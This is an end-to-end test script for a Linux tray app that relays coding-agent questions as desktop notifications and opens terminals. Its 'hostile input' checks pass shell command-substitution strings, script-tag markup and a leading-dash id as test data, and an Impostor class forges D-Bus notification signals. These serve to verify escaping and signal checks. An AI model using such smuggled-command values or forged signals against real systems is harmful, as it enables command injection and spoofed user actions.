#!/usr/bin/env python3
"""End-to-end checks of Loopflow Tray with real parts: a real X server (Xvfb), a
private session bus, a real notification server (dunst), a StatusNotifierWatcher,
the app binary, and tauri-driver for the window.

Run through tests/e2e/run.sh, which sets up those parts and exports the paths this
script reads. Each check is a function that waits for what a user would see (a
Notify call on the bus, a row in the tray menu, a terminal launch, text in the
window) with a timeout; the app's log lines ($XDG_STATE_HOME/lf-tray/lf-tray.log) are only used to know where
to look, never as the assertion.
"""

import json
import os
import re
import signal
import subprocess
import sys
import time
import uuid
from pathlib import Path

import dbus
import dbus.bus
import dbus.lowlevel

sys.path.insert(0, str(Path(__file__).resolve().parent))
from harness import (APP_NAME, QUIET_SPELL, SCRUBBED, START_TIMEOUT, STEP_TIMEOUT,  # noqa: E402,F401
                     CheckFailed, Checks, Lines, Skipped, expect, first_snapshot_logged, never, recent_steps,
                     run_checks, unmarked, wait_for)
from claude import (FIVE_OPTIONS, MODE_SUGGESTION, QUESTION, SUGGESTION, Agent,  # noqa: E402
                    answering_on, put_back)
from lfhome import LfHome  # noqa: E402
from notifications import IFACE as NOTIFY_IFACE  # noqa: E402
from notifications import NotificationLog  # noqa: E402
from tray import Tray, plain  # noqa: E402

HEADERS = ("Ready for review", "Waiting for you", "Stopped", "Active")
CONTROLS = ("Show window", "Dismiss", "Pause notifications", "Resume notifications", "Quit")
BURST_WINDOW = 2.0  # the contract's burst: 5 or more Asks within 2 s


def escape_markup(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def squash(text):
    return " ".join(text.split())


def expect_body(body, title, prompt):
    """The body a person reads: the title, a line break, then the start of the question.
    The question's first line is lf's title, so an app may leave it out of the rest;
    whitespace may be folded and the end cut with `…`."""
    first, _, rest = body.partition("\n")
    expect(first == title, f"body's first line is {first!r}; expected the title {title!r}")
    shown = squash(rest).rstrip("…").strip()
    head, _, tail = prompt.partition("\n")
    starts = [squash(prompt)] + ([squash(tail)] if head.strip() == title and tail.strip() else [])
    expect(shown and any(s.startswith(shown) for s in starts),
           f"body continues with {rest!r}; expected the start of the question {prompt!r}")


def wait_exit(app, seconds):
    """Whether the process ends within `seconds`."""
    try:
        app.wait(seconds)
        return True
    except subprocess.TimeoutExpired:
        return False


class Ctx:
    def __init__(self):
        env = os.environ
        self.app_bin = env["APP"]
        self.out = Path(env["E2E_OUT"])
        self.tmp = Path(env["E2E_TMP"])
        self.home = LfHome(env["LF_HOME"])
        self.lf_bin = env["LF_BIN"]
        self.sim_dir = Path(env["LF_SIM_DIR"])
        self.notes = NotificationLog(env["E2E_NOTIFY_PCAP"])
        self.terminal = Lines(env["E2E_TERMINAL_LOG"])
        # The app's own log, where a person finds it: $XDG_STATE_HOME/lf-tray/lf-tray.log.
        self.app_log = Lines(Path(env["XDG_STATE_HOME"]) / "lf-tray" / "lf-tray.log")
        self.sim_argv = Lines(self.sim_dir / "argv.jsonl")
        self.webdriver_url = env.get("WEBDRIVER_URL")
        self.bus = dbus.SessionBus()
        self.tray = Tray(self.bus)
        self.app = None
        self.item = None
        self.work = self.tmp / "work"
        self.session_a = None
        self.flow_id = None
        self.d_session = None
        self.driver = None
        self.last_ask = 0.0  # monotonic time of the last Ask written
        self.watcher = None  # a StatusNotifierWatcher this script started (run.sh starts one)

    # --- the app process -------------------------------------------------------------
    def start_app(self):
        log = open(self.out / "app.log", "ab")
        # Hidden, as autostart starts it, so that showing the window is a visible change.
        self.app = subprocess.Popen([self.app_bin, "--hidden"], env=os.environ.copy(), stdout=log,
                                    stderr=subprocess.STDOUT, start_new_session=True)
        log.close()

    def start_hidden(self, env, log_name, what):
        """Start the app hidden in `env` (its output in `log_name`) and wait for its tray
        item and its first snapshot in the menu: what lf writes after that is news."""
        log = open(self.out / log_name, "ab")
        self.app = subprocess.Popen([self.app_bin, "--hidden"], env=env, stdout=log,
                                    stderr=subprocess.STDOUT, start_new_session=True)
        log.close()
        self.item = wait_for(lambda: self.tray.item_of_pid(self.app.pid), f"{what}'s tray item",
                             START_TIMEOUT)
        wait_for(lambda: "Reading sessions…" not in self.menu_labels(),
                 "the first snapshot in the menu", START_TIMEOUT)
        wait_for(lambda: first_snapshot_logged(self.app.pid),
                 lambda: f"{what}'s first snapshot; its last steps: {recent_steps()}", START_TIMEOUT)

    def require_app(self):
        if self.app is None:
            raise CheckFailed("the app was not started")
        if self.app.poll() is not None:
            raise CheckFailed(f"the app is not running (exit code {self.app.returncode}); see app.log")

    def stop_app(self):
        if self.app is not None and self.app.poll() is None:
            os.killpg(self.app.pid, signal.SIGTERM)
            try:
                self.app.wait(3)
            except subprocess.TimeoutExpired:
                os.killpg(self.app.pid, signal.SIGKILL)
                self.app.wait()

    def write_ask(self, sid, **fields):
        self.home.write_ask(sid, **fields)
        self.last_ask = time.monotonic()

    def store_home(self, generation):
        """A home of one of today's lfs (SQLite only) with a repository to work in: the
        home, the repository, the environment that makes the stand-in play `generation`,
        and a function that runs that lf (failing the check with lf's words)."""
        home = self.tmp / f"lf-home-{generation}"
        repo = self.tmp / "work" / f"repo-{generation}"
        (repo / ".git").mkdir(parents=True, exist_ok=True)
        env = dict(os.environ, LF_HOME=str(home), LF_SIM_GENERATION=generation)

        def lf(*args):
            out = subprocess.run([self.lf_bin, *args], env=env, capture_output=True, text=True)
            if out.returncode != 0:
                raise CheckFailed(f"lf {' '.join(args)}: {out.stderr.strip()}")
            return out.stdout

        return home, repo, env, lf

    # --- tray ------------------------------------------------------------------------
    def menu(self):
        self.require_app()
        return self.tray.layout(self.item).rows()

    def section(self, header):
        """The rows under a section header, as (label, entry), in menu order."""
        rows, inside = [], False
        for entry in self.menu():
            label = plain(entry.label)
            if entry.type == "separator" or label in HEADERS or label in CONTROLS:
                if inside:
                    break
                inside = label == header
                continue
            if inside:
                rows.append((label, entry))
        return rows

    def menu_labels(self):
        return [plain(e.label) for e in self.menu() if e.type != "separator"]

    def click(self, label, header=None):
        """Click the row with this label (under header, if given). The menu is rebuilt
        whenever sessions change, which renumbers its items; a click that races a rebuild
        is refused by dbusmenu and harmless, so it is retried on a fresh layout."""
        def attempt():
            if header:
                entry = self.row(header, label)
            else:
                entry = next((e for e in self.menu() if plain(e.label) == label), None)
            if entry is None:
                return None
            try:
                self.tray.click(self.item, entry.id)
            except dbus.DBusException as e:
                if "does not refer to a menu item" in str(e):
                    return None
                # Quit ends the app before its reply to the click can leave (ksni acts on
                # a click, then answers): the click got through. Whether it ended well is
                # the caller's to check.
                if self.app is not None and wait_exit(self.app, 2.0):
                    return True
                raise
            return True

        wait_for(attempt, f"to click {label!r}; menu: {self.menu_labels()}")

    def row(self, header, label):
        for text, entry in self.section(header):
            if text == label:
                return entry
        return None

    # --- notifications ---------------------------------------------------------------
    def notified(self, pred, what, timeout=STEP_TIMEOUT):
        return wait_for(lambda: self.notes.find(pred), what, timeout)[-1]

    def shown_ids(self):
        """The ids of every popup shown so far: a wait for a popup of the step to come
        must not be satisfied by an earlier check's popup with the same words."""
        return {n.id for n in self.notes.find(lambda n: True)}

    def await_listener(self, n):
        wait_for(lambda: self.notes.listening(n),
                 f"the app to listen for actions on notification {n.id} (AddMatch ActionInvoked)")

    def invoke_action(self, n, key, racing=False):
        """A click on one of a notification's buttons, made through dunst: its context menu
        (`dunstctl context`), where the stand-in dmenu picks `key` of n. dunst then sends
        ActionInvoked from the connection that owns the name, as for a person's click: the
        same signal from any other connection is no click. `racing`: another answer races
        the click, and where it wins the app closes the popup before dunst's menu reads it,
        so no click is sent; then the popup closed by the app is what the click comes to."""
        self.await_listener(n)
        server = self.bus.get_name_owner(NOTIFY_IFACE)
        sent = n.invoked_by.count((key, server))
        choice = Path(os.environ["E2E_DMENU_CHOICE"])
        choice.write_text(f"{n.id},{key}")
        subprocess.run(["dunstctl", "context"], check=True)
        wait_for(lambda: self.notes.refresh() and (n.invoked_by.count((key, server)) > sent
                                                   or racing and n.closed_by_app),
                 lambda: f"dunst ({server}) to send ActionInvoked {key} for notification {n.id} "
                 f"from its menu (choice {'not ' if choice.exists() else ''}taken; sent so far "
                 f"{n.invoked_by})")

    def displayed(self):
        out = subprocess.run(["dunstctl", "count", "displayed"], capture_output=True, text=True)
        return int(out.stdout.strip() or 0)

    # --- terminal ----------------------------------------------------------------------
    def launches_after(self, n):
        return self.terminal.json()[n:]

    def expect_launch(self, launch, session_id, cwd):
        argv = launch["argv"]
        expect(argv[:1] == ["-e"], f"terminal not invoked as `$TERMINAL -e argv…`: {argv!r}")
        run, terminal_id = unmarked(argv[1:])
        expect(terminal_id, f"the terminal's command {argv!r} does not mark it (LF_TERMINAL_ID)")
        want = [self.lf_bin, "session", "open"]
        expect(run[:3] == want, f"terminal runs {run!r}; expected it to start with {want!r}")
        rest = run[3:]
        # `--` before the id is welcome, and required when the id looks like an option.
        if rest[:1] == ["--"]:
            rest = rest[1:]
        elif session_id.startswith("-"):
            raise CheckFailed(f"id {session_id!r} starts with '-' but no `--` precedes it: {run!r}")
        expect(rest == [session_id], f"terminal runs {run!r}; expected the id {session_id!r} as one argument")
        expect(launch["cwd"] == str(cwd), f"terminal cwd {launch['cwd']!r}; expected {str(cwd)!r}")
        env = launch["env"]
        leaked = [name for name in SCRUBBED if name in env]
        expect(not leaked, f"run context leaked into the terminal's environment: {leaked}")
        expect(env.get("LF_HOME") == str(self.home.root),
               f"LF_HOME in terminal env is {env.get('LF_HOME')!r}; expected {str(self.home.root)!r}")

    # --- window ----------------------------------------------------------------------
    def visible_windows(self):
        out = subprocess.run(["xdotool", "search", "--onlyvisible", "--pid", str(self.app.pid)],
                             capture_output=True, text=True)
        return out.stdout.split()

    def screenshot(self, name, window="root"):
        subprocess.run(["import", "-window", window, str(self.out / name)], check=True,
                       capture_output=True)

    def painted(self, name, window):
        """Screenshot a window; it counts as painted once it is more than a flat fill
        (text is antialiased, so a rendered page has many colours)."""
        self.screenshot(name, window)
        colours = subprocess.run(["identify", "-format", "%k", str(self.out / name)],
                                 capture_output=True, text=True, check=True).stdout
        return int(colours) > 16

    def flow_selector(self):
        quoted = self.flow_id.replace("\\", "\\\\").replace('"', '\\"')
        return f'[data-session-id="{quoted}"]'

    def make_cwd(self, name):
        path = self.work / name
        path.mkdir(parents=True, exist_ok=True)
        return path


CHECKS = Checks()
check = CHECKS.add


def window_check_for(add):
    """A decorator for checks of the window through WebDriver, registered with `add` (a
    suite's own list): skipped when run.sh was given no tauri-driver."""
    def window_check(fn):
        def run(ctx):
            if not ctx.webdriver_url:
                raise Skipped("TAURI_DRIVER not given: WebDriver checks not run")
            fn(ctx)
        run.__name__ = fn.__name__
        run.__doc__ = fn.__doc__
        return add(run)
    return window_check


window_check = window_check_for(check)


# --- the desktop parts -------------------------------------------------------------------


@check
def bus_services_are_up(ctx):
    """dunst serves notifications and the watcher is there for the tray to register with."""
    server = ctx.bus.get_object("org.freedesktop.Notifications", "/org/freedesktop/Notifications")
    info = server.GetServerInformation(dbus_interface=NOTIFY_IFACE)
    expect(str(info[0]) == "dunst", f"notification server is {info[0]!r}, not dunst")
    expect(ctx.tray.items() == [], f"watcher already lists items: {ctx.tray.items()}")


@check
def app_starts_with_a_tray_item(ctx):
    ctx.start_app()

    def registered():
        ctx.require_app()
        return ctx.tray.item_of_pid(ctx.app.pid)

    ctx.item = wait_for(registered, "the app's StatusNotifierItem on the watcher", START_TIMEOUT)
    wait_for(lambda: "READY" in ctx.app_log.messages(), "READY in the app's log", START_TIMEOUT)
    props = ctx.tray.properties(ctx.item)
    expect(str(props.get("Status")) in ("Active", "NeedsAttention"),
           f"tray item status {props.get('Status')!r}")


@check
def tray_menu_when_nothing_waits(ctx):
    def labels():
        got = ctx.menu_labels()
        return got if "No sessions waiting" in got else None

    got = wait_for(labels, "`No sessions waiting` in the tray menu")
    for control in ("Show window", "Pause notifications", "For 1 hour", "Quit"):
        expect(control in got, f"tray menu lacks {control!r}: {got}")
    empty = [e for e in ctx.menu() if plain(e.label) == "No sessions waiting"][0]
    expect(not empty.enabled, "`No sessions waiting` is clickable")


# --- an Ask, from question to resolution ----------------------------------------------------


@check
def ask_raises_a_notification(ctx):
    ctx.require_app()
    sid = "ask_" + uuid.uuid4().hex
    cwd = ctx.make_cwd("app")
    title = "Which release target should we ship first?"
    prompt = title + "\nmacOS has the most users; Linux is almost done."
    ctx.write_ask(sid, title=title, prompt=prompt, cwd=cwd, detail="loop-decide")
    ctx.session_a = {"id": sid, "title": title, "detail": "loop-decide", "cwd": cwd}

    n = ctx.notified(lambda n: title in n.body, f"a Notify call for Ask {sid}")
    ctx.session_a["asked"] = n
    expect(n.app_name == APP_NAME, f"app name {n.app_name!r}")
    expect(n.summary == "Agent asks · loop-decide", f"summary {n.summary!r}")
    expect_body(n.body, title, prompt)
    expect(sorted(n.actions) == [("default", "Open"), ("dismiss", "Dismiss"), ("open", "Open")],
           f"actions {n.actions!r}; expected default/Open, open/Open and dismiss/Dismiss")
    expect(n.hints.get("desktop-entry") == "lf-tray", f"desktop-entry hint {n.hints.get('desktop-entry')!r}")
    # An agent's question: normal urgency, a message received, the theme's message sound.
    expect(int(n.hints.get("urgency", -1)) == 1, f"urgency hint {n.hints.get('urgency')!r}")
    expect(n.hints.get("category") == "im.received", f"category hint {n.hints.get('category')!r}")
    expect(n.hints.get("sound-name") == "message-new-instant", f"sound hint {n.hints.get('sound-name')!r}")
    expect(n.icon and (not n.icon.startswith("/") or Path(n.icon).exists()),
           f"icon {n.icon!r} is empty or missing")
    wait_for(lambda: ctx.displayed() >= 1, "dunst to display the notification")
    ctx.screenshot("notification.png")


@check
def notification_click_opens_the_terminal(ctx):
    a = ctx.session_a or {}
    expect(a.get("asked"), "no Ask notification to click (previous check failed)")
    expect(ctx.displayed() == 1, f"{ctx.displayed()} notifications displayed; `dunstctl action 0` needs exactly ours")
    ctx.await_listener(a["asked"])
    before = len(ctx.terminal.json())
    subprocess.run(["dunstctl", "action", "0"], check=True)
    launch = wait_for(lambda: ctx.launches_after(before), "the stand-in terminal to be launched")[0]
    ctx.expect_launch(launch, a["id"], a["cwd"])
    ctx.notes.refresh()
    expect("default" in a["asked"].invoked, f"dunst reported actions {a['asked'].invoked!r}, not `default`")


@check
def tray_lists_the_waiting_session(ctx):
    a = ctx.session_a or {}
    expect(a, "no Ask session (previous check failed)")
    label = f"{a['title']} — {a['detail']}"
    wait_for(lambda: ctx.row("Waiting for you", label),
             f"row {label!r} under `Waiting for you`; menu: {ctx.menu_labels()}")


@check
def tray_row_click_opens_the_terminal(ctx):
    a = ctx.session_a or {}
    expect(a, "no Ask session (previous check failed)")
    before = len(ctx.terminal.json())
    ctx.click(f"{a['title']} — {a['detail']}", "Waiting for you")
    launch = wait_for(lambda: ctx.launches_after(before), "a terminal launch after the row click")[0]
    ctx.expect_launch(launch, a["id"], a["cwd"])


@check
def ready_raises_ready_for_review(ctx):
    a = ctx.session_a or {}
    expect(a, "no Ask session (previous check failed)")
    summary = "Ship macOS first; notes in scratch/release-target.md"
    ctx.home.mark_ready(a["id"], summary)
    want = f"Ready for review: {a['title']}"
    n = ctx.notified(lambda n: n.summary == want, f"a Notify with summary {want!r}; seen {ctx.notes.summaries()}")
    a["ready"] = n
    expect(n.app_name == APP_NAME, f"app name {n.app_name!r}")
    expect(n.body == escape_markup(summary), f"body {n.body!r}; expected the ready summary")
    keys = n.action_keys()
    expect("default" in keys and "open" in keys, f"actions {n.actions!r}")
    label = f"{a['title']} — {a['detail']}"
    wait_for(lambda: ctx.row("Ready for review", label),
             f"row {label!r} under `Ready for review`; menu: {ctx.menu_labels()}")


@check
def resolving_closes_the_notification_and_the_row(ctx):
    a = ctx.session_a or {}
    expect(a.get("ready"), "no ready notification (previous check failed)")
    ctx.home.complete(a["id"])
    ctx.home.remove_ask(a["id"])  # what the blocked `lf ask` does once it sees completion
    nid = a["ready"].id
    wait_for(lambda: ctx.notes.refresh().closes.count(nid) >= 1,
             f"CloseNotification({nid}) for the ready notification; closes seen {ctx.notes.closes}")
    wait_for(lambda: "No sessions waiting" in ctx.menu_labels(),
             f"the row to leave the menu; menu: {ctx.menu_labels()}")
    expect(ctx.notes.closes.count(nid) == 1, f"CloseNotification({nid}) sent {ctx.notes.closes.count(nid)} times")
    asked = ctx.notes.find(lambda n: n.summary == "Agent asks · loop-decide" and a["title"] in n.body)
    ready = ctx.notes.find(lambda n: n.summary.startswith("Ready for review: " + a["title"]))
    expect(len(asked) == 1 and len(ready) == 1,
           f"expected one notification per transition; got {len(asked)} asked, {len(ready)} ready")


# --- hostile input --------------------------------------------------------------------------


@check
def markup_arrives_escaped(ctx):
    ctx.require_app()
    sid = "ask_" + uuid.uuid4().hex
    title = 'Use <b>bold</b> & <script>alert("x")</script>'
    prompt = 'Is <i>this</i> & "that" ok? <script>document.title=1</script> a&amp;b'
    ctx.write_ask(sid, title=title, prompt=prompt, cwd=ctx.make_cwd("markup"), detail="markup & <check>")
    try:
        n = ctx.notified(lambda n: escape_markup(title) in n.body or title in n.body,
                         "a Notify for the markup Ask")
        expect_body(n.body, escape_markup(title), escape_markup(prompt))
        label = f"{title} — markup & <check>"
        wait_for(lambda: ctx.row("Waiting for you", label),
                 f"tray row {label!r} shown verbatim (muda turns a lone `&` into a mnemonic); "
                 f"menu: {ctx.menu_labels()}")
    finally:
        ctx.home.remove_ask(sid)


def open_through_notification(ctx, sid, title, cwd):
    """Write an Ask, click `open` on its notification (through dunst's menu), return the
    terminal launch."""
    ctx.write_ask(sid, title=title, prompt="argv?", cwd=cwd, detail="argv")
    n = ctx.notified(lambda n: title in n.body, f"a Notify for {title!r}")
    before = len(ctx.terminal.json())
    ctx.invoke_action(n, "open")
    return wait_for(lambda: ctx.launches_after(before), "a terminal launch for the `open` action")[0]


@check
def hostile_id_and_cwd_reach_the_terminal_intact(ctx):
    ctx.require_app()
    marker = Path(f"/tmp/lf-e2e-pwned-{os.getpid()}")
    sid = "ask 'single' \"double\" $(touch pwned) `touch pwned` ;true"
    cwd = ctx.make_cwd(f"odd dir 'q' \"dq\" $(touch {marker}) ; echo")
    try:
        launch = open_through_notification(ctx, sid, "Hostile argv check", cwd)
        ctx.expect_launch(launch, sid, cwd)
        executed = [p for p in (marker, cwd / "pwned", ctx.work / "pwned") if p.exists()]
        expect(not executed, f"injected commands ran: {executed}")
    finally:
        ctx.home.remove_ask(sid)


@check
def id_with_a_leading_dash_is_not_an_option(ctx):
    ctx.require_app()
    sid = "--replace ask"
    try:
        launch = open_through_notification(ctx, sid, "Leading dash check", ctx.make_cwd("dash"))
        ctx.expect_launch(launch, sid, ctx.work / "dash")
    finally:
        ctx.home.remove_ask(sid)


# --- one click, one action: a desktop that repeats the server's signals --------------------


class Impostor:
    """What gnome-shell does beside GNOME's notification server (the gjs process
    `org.gnome.Shell.Notifications`, which owns org.freedesktop.Notifications): for a click,
    it broadcasts its own ActivationToken and ActionInvoked, and NotificationClosed, on the
    Notifications path and interface, from a connection of its own."""

    TOKEN = "impostor-token"

    def __init__(self):
        self.bus = dbus.bus.BusConnection(os.environ["DBUS_SESSION_BUS_ADDRESS"])

    def emit(self, member, *args):
        msg = dbus.lowlevel.SignalMessage("/org/freedesktop/Notifications", NOTIFY_IFACE, member)
        msg.append(*args)
        self.bus.send_message(msg)
        self.bus.flush()

    def click(self, nid):
        self.emit("ActivationToken", dbus.UInt32(nid), dbus.String(self.TOKEN))
        self.emit("ActionInvoked", dbus.UInt32(nid), dbus.String("default"))

    def closed(self, nid):
        self.emit("NotificationClosed", dbus.UInt32(nid), dbus.UInt32(2))  # 2: dismissed by the user

    def close(self):
        self.bus.close()


def resolve(ctx, sid):
    """The Ask answered, as lf leaves it (completed, then deleted), if it is still there."""
    if ctx.home.ask_path(sid).exists():
        ctx.home.complete(sid)
        ctx.home.remove_ask(sid)


def launches_of(ctx, sid, before):
    return [launch for launch in ctx.launches_after(before) if sid in launch["argv"]]


def actions_logged(ctx, nid, seen):
    """The app's `ACTION <key> id=<nid> …` lines after the first `seen` messages."""
    return [m for m in ctx.app_log.messages()[seen:] if m.startswith("ACTION ") and f" id={nid} " in m]


@check
def one_click_opens_one_terminal_though_the_shell_repeats_it(ctx):
    """GNOME Shell 43: each click on a popup reaches the app twice, from the server and from
    gnome-shell; the person must get one terminal, with the server's token if any."""
    ctx.require_app()
    sid = "ask_" + uuid.uuid4().hex
    cwd = ctx.make_cwd("one click")
    title = "Does one click open one terminal?"
    ctx.write_ask(sid, title=title, prompt=title + "\nThe shell repeats every click.", cwd=cwd, detail="click")
    impostor = Impostor()
    try:
        n = ctx.notified(lambda n: title in n.body, f"a Notify for {title!r}")
        ctx.await_listener(n)
        before = len(ctx.terminal.json())
        seen = len(ctx.app_log.messages())
        # The shell's broadcast and the server's signal come within milliseconds of each
        # other, in either order; here the shell's comes first.
        impostor.click(n.id)
        ctx.invoke_action(n, "default")
        launch = wait_for(lambda: launches_of(ctx, sid, before), "the terminal for the click")[0]
        ctx.expect_launch(launch, sid, cwd)
        never(lambda: len(launches_of(ctx, sid, before)) > 1,
              lambda _: f"a second terminal opened for one click: {len(launches_of(ctx, sid, before))} "
              "launches of the session")
        actions = actions_logged(ctx, n.id, seen)
        expect(len(actions) == 1, f"the app acted {len(actions)} times on the one click: {actions}")
        token = launch["env"].get("XDG_ACTIVATION_TOKEN")
        expect(token != Impostor.TOKEN, "the terminal got the other connection's activation token")
    finally:
        impostor.close()
        resolve(ctx, sid)


@check
def another_connections_signals_neither_open_nor_close_a_popup(ctx):
    """The same broadcast with no click of the server's: nothing opens, and the popup is
    still the app's, so it takes it down when the agent stops waiting."""
    ctx.require_app()
    sid = "ask_" + uuid.uuid4().hex
    title = "Does a stranger's signal open anything?"
    ctx.write_ask(sid, title=title, prompt=title, cwd=ctx.make_cwd("stranger"), detail="stranger")
    impostor = Impostor()
    try:
        n = ctx.notified(lambda n: title in n.body, f"a Notify for {title!r}")
        ctx.await_listener(n)
        wait_for(lambda: ctx.notes.refresh() and n.id is not None, "the notification's id")
        on_screen = wait_for(ctx.displayed, "dunst to display the popup")
        before = len(ctx.terminal.json())
        seen = len(ctx.app_log.messages())
        impostor.click(n.id)
        impostor.closed(n.id)

        def read():
            # The close comes last: the app has read all three once it either ignored it or
            # forgot the popup for it.
            return [m for m in ctx.app_log.messages()[seen:] if f" id={n.id} " in m
                    and (m.startswith("IGNORED NotificationClosed") or m.startswith("NOTIFY_CLOSED"))]
        wait_for(read, "the app to read the other connection's NotificationClosed")
        never(lambda: launches_of(ctx, sid, before) or actions_logged(ctx, n.id, seen),
              lambda got: f"another connection's ActionInvoked made the app act: {got}")
        resolve(ctx, sid)
        wait_for(lambda: n.id in ctx.notes.refresh().closes,
                 f"CloseNotification({n.id}) once the agent stopped waiting (the app forgot its popup "
                 f"for another connection's NotificationClosed?); closes seen {ctx.notes.closes}")
        wait_for(lambda: ctx.displayed() == on_screen - 1, "dunst to take the popup down")
    finally:
        impostor.close()
        resolve(ctx, sid)


# --- a second instance, many at once, quitting ---------------------------------------------


@check
def second_instance_exits_and_shows_the_first(ctx):
    ctx.require_app()
    expect(not ctx.visible_windows(),
           "the window is visible before the second instance although the app was started "
           "with --hidden, so this check cannot see the second instance show it")
    seen = len(ctx.app_log.messages())
    started = time.monotonic()
    second = subprocess.run([ctx.app_bin], env=os.environ.copy(), capture_output=True, timeout=15)
    took = time.monotonic() - started
    expect(took < 5, f"second instance took {took:.1f} s to exit")
    wait_for(lambda: "SECOND_INSTANCE" in ctx.app_log.messages()[seen:], "SECOND_INSTANCE from the first instance")
    windows = wait_for(ctx.visible_windows, "the first instance's window to be visible")
    wait_for(lambda: ctx.painted("window.png", windows[0]), "the window to show its page (not a blank fill)")
    expect(second.returncode == 0, f"second instance exited {second.returncode}: {second.stderr[-300:]!r}")
    expect(ctx.tray.item_of_pid(ctx.app.pid), "the first instance lost its tray item")


@check
def burst_of_eight_is_one_popup_and_two_notify_calls(ctx):
    ctx.require_app()
    ids = [f"ask_burst{i}_" + uuid.uuid4().hex[:8] for i in range(8)]
    # The earlier checks' Asks must be out of the app's 2 s burst window, or they count
    # too. This sleep sets up the precondition; it asserts nothing.
    time.sleep(max(0.0, ctx.last_ask + BURST_WINDOW + 0.5 - time.monotonic()))
    on_screen = ctx.displayed()
    started = time.monotonic()
    for i, sid in enumerate(ids):
        ctx.write_ask(sid, title=f"Burst question {i}", prompt=f"Burst question {i}?",
                           cwd=ctx.make_cwd("burst"), detail="burst")
    expect(time.monotonic() - started < 2, "writing eight asks took over 2 s")
    try:
        n = ctx.notified(lambda n: re.fullmatch(r"\d+ sessions wait for you", n.summary),
                         f"a burst notification; seen {ctx.notes.summaries()}")
        expect(n.summary == "8 sessions wait for you", f"burst summary {n.summary!r}")
        expect("default" in n.action_keys(), f"burst actions {n.actions!r}")
        # Every burst row must be in the menu before counting, so the engine has seen all eight.
        wait_for(lambda: len([1 for label, _ in ctx.section("Waiting for you") if "Burst question" in label]) == 8,
                 f"eight burst rows in the tray; menu: {ctx.menu_labels()}")
        singles = ctx.notes.find(lambda n: n.summary.startswith("Agent asks") and "Burst question" in n.body)
        bursts = ctx.notes.find(lambda n: n.summary.endswith("sessions wait for you"))
        expect(len(bursts) == 1 and len(singles) <= 1,
               f"expected at most two Notify calls; got {len(bursts)} burst and {len(singles)} "
               f"single ones: {[s.summary for s in singles]}")
        if singles:
            # The first of the burst popped up at once; the summary took its place.
            expect(n.replaces_id == singles[0].id and n.id == singles[0].id,
                   f"the summary (replaces_id {n.replaces_id}, id {n.id}) did not replace the first "
                   f"popup (id {singles[0].id})")
        wait_for(lambda: ctx.displayed() == on_screen + 1,
                 f"one more popup on screen than before the burst; dunst shows {ctx.displayed()}, "
                 f"had {on_screen}")
        # The window an earlier check showed must be gone first, or its being visible
        # would prove nothing: Esc hides it, as a person does.
        for window in ctx.visible_windows():
            subprocess.run(["xdotool", "windowfocus", "--sync", window, "key", "Escape"],
                           capture_output=True, timeout=10)
        wait_for(lambda: not ctx.visible_windows(), "the earlier window to be hidden by Esc")
        shown = len(ctx.app_log.messages())
        ctx.invoke_action(n, "default")
        wait_for(lambda: "WINDOW shown" in ctx.app_log.messages()[shown:], "the burst's default action to show the window")
        wait_for(ctx.visible_windows, "the window, shown again by the burst's click")
    finally:
        for sid in ids:
            ctx.home.remove_ask(sid)


@check
def quit_from_the_tray_ends_the_app(ctx):
    ctx.require_app()
    ctx.click("Quit")
    wait_for(lambda: ctx.app.poll() is not None, "the app process to exit after Quit")
    expect(ctx.app.returncode == 0, f"app exited with {ctx.app.returncode}")
    wait_for(lambda: ctx.tray.items() == [], "the tray item to leave the watcher")


@check
def sigterm_ends_the_app_like_quit(ctx):
    # A session manager logging out (or Ctrl-C in a terminal) must not leave popups behind.
    ctx.start_app()
    ctx.item = wait_for(lambda: ctx.tray.item_of_pid(ctx.app.pid),
                        "the restarted app's StatusNotifierItem", START_TIMEOUT)
    # The menu leaves "Reading sessions…" once the engine's first snapshot is in: an Ask
    # written after that is news and gets a popup.
    wait_for(lambda: "Reading sessions…" not in ctx.menu_labels(), "the first snapshot in the menu",
             START_TIMEOUT)
    title = "Still waiting at logout"
    ctx.write_ask("ask_" + uuid.uuid4().hex, title=title, prompt=title, cwd=ctx.make_cwd("logout"))
    n = ctx.notified(lambda n: title in n.body, "the ask's notification")
    wait_for(lambda: ctx.notes.refresh() and n.id is not None, "the notification's id")
    ctx.app.send_signal(signal.SIGTERM)
    wait_for(lambda: ctx.app.poll() is not None, "the app to exit on SIGTERM")
    expect(ctx.app.returncode == 0, f"app exited with {ctx.app.returncode} on SIGTERM")
    wait_for(lambda: ctx.tray.items() == [], "the tray item to leave the watcher")
    wait_for(lambda: n.id in ctx.notes.refresh().closes,
             f"CloseNotification({n.id}) on the way out; closes seen {ctx.notes.closes}")


@check
def generation_d_waiting_pops_up_opens_lf_argv_and_closes_when_cleared(ctx):
    # Today's lf: sessions only in its SQLite store; attention turns `waiting` and back.
    ctx.stop_app()
    home, repo, env, lf = ctx.store_home("d")

    sid = "SESSION-" + uuid.uuid4().hex[:8]
    ctx.d_session = {"id": sid, "home": home, "repo": repo, "env": env}
    title = "Decide the cache eviction policy"
    lf("sim", "new", sid, "--title", title, "--cwd", str(repo), "--provider", "codex",
       "--work-path", "product / LOO-412")
    lf("sim", "working", sid)
    ctx.start_hidden(env, "app-d.log", "the D app")
    lf("sim", "ask", sid)
    n = ctx.notified(lambda n: title in n.body, f"a Notify call for the waiting session {sid}")
    expect(n.summary == "Agent waits for you · codex", f"summary {n.summary!r}")
    expect("product / LOO-412" in n.body, f"body {n.body!r} does not name the work")
    wait_for(lambda: ctx.displayed() == 1, "dunst to display exactly the D notification")
    wait_for(lambda: "Waiting for you" in ctx.menu_labels(), "the session under Waiting for you")
    listed = [s for s in json.loads(lf("session", "list", "--json", "--all", "--interactive", "all",
                                       "--limit", "0")) if s["id"] == sid]
    expect(listed, f"lf does not list {sid}")
    open_argv = listed[0]["open_argv"]
    ctx.await_listener(n)
    before = len(ctx.terminal.json())
    subprocess.run(["dunstctl", "action", "0"], check=True)
    launch = wait_for(lambda: ctx.launches_after(before), "the stand-in terminal to be launched")[0]
    expect(launch["argv"][:1] == ["-e"] and unmarked(launch["argv"][1:])[0] == open_argv,
           f"terminal runs {launch['argv']!r}; expected lf's open_argv verbatim {open_argv!r}")
    expect(launch["cwd"] == str(repo), f"terminal cwd {launch['cwd']!r}; expected {str(repo)!r}")
    wait_for(lambda: ctx.notes.refresh() and n.id is not None, "the notification's id")
    lf("sim", "working", sid)
    wait_for(lambda: n.id in ctx.notes.refresh().closes,
             f"CloseNotification({n.id}) once attention cleared; closes seen {ctx.notes.closes}")
    wait_for(lambda: "Waiting for you" not in ctx.menu_labels(), "the row to leave Waiting for you")
    ctx.stop_app()
